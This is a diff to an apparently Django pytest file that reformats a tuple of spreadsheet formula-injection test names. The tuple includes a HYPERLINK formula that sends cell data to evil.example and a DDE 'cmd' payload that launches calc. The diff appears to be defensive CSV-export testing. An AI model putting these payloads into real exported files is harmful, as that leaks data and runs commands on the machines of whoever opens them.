@@ -15,8 +15,14 @@ from tests.factories import EventFactory, played, registered
 
 pytestmark = pytest.mark.django_db
 
-NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-         "\t=1+1", "\r=1+1")
+NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+)
 # The four that play one game; the last two start with a tab and a carriage return.
 PLAYERS = (NAMES[0], NAMES[1], NAMES[2], NAMES[3])
 
